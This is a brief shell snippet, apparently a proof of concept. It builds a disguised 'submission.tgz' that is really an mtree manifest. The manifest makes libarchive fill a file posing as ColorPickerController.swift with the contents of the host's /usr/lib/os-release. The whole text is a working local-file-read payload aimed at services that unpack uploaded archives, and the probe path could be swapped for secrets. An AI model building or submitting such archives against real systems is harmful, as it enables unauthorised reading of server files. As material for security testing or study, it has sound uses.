# A list that libarchive would fill from the machine: a file that is on every one.
{
  echo '#mtree'
  echo './ColorPickerController.swift type=file contents=/usr/lib/os-release mode=0644'
} > list
gzip -c list > submission.tgz; rm list
